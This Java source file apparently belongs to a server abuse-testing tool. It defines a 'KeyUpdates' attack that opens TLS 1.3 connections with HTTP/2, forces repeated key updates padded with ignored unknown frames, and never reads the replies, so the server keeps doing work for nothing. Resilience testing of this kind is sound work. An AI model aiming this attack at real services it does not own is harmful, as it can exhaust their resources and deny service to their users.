package io.resound.abuse;

import java.nio.ByteBuffer;

import javax.net.ssl.SSLContext;

/**
 * Has the keys of TLS 1.3 updated, over and over, each of which the service replies to,
 * and reads none of the replies. An engine may count updates with nothing between them,
 * so there is a frame of HTTP/2 that is ignored.
 *
 * @param context makes the handshakes
 */
record KeyUpdates(SSLContext context) implements Attack {

	private static final int UNKNOWN = 0x42;

	@Override
	public String name() {
		return "TLS: key updates, replies never read";
	}

	@Override
	public int bytesReadPerSecond() {
		return 0;
	}

	@Override
	public Script script() {
		return new TlsScript(this.context, "h2", new Script() {

			private boolean begun;

			@Override
			public ByteBuffer next() {
				if (this.begun) {
					return Frames.frame(UNKNOWN, 0, 0, new byte[0]);
				}
				this.begun = true;
				return Frames.preface(Frames.INITIAL_WINDOW);
			}

		}, true);
	}

}
